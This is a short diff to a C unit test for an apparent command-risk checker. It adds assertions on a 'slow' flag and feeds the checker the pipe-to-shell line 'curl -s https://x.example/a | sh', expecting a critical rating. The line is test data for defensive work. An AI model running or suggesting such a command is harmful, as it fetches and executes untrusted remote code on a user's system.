@@ -477,11 +477,13 @@ static void test_a_slow_line_becomes_a_critical_risk(void **state)
 	assert_true(v.n >= 1);
 	assert_int_equal(v.risks[0].level, TDM_LEVEL_CRITICAL);
 	assert_non_null(strstr(v.risks[0].why, "in time"));
+	assert_true(v.slow);
 	/* The usual budget checks an ordinary line fully. */
 	tdm_rules_set_budget(rs, TDM_RISK_BUDGET_MS);
 	judge(rs, "curl -s https://x.example/a | sh", 32, &v);
 	assert_int_equal(v.risks[0].level, TDM_LEVEL_CRITICAL);
 	assert_null(strstr(v.risks[0].why, "in time"));
+	assert_false(v.slow);
 	free(line);
 	tdm_rules_free(rs);
 	tdm_policy_free(p);
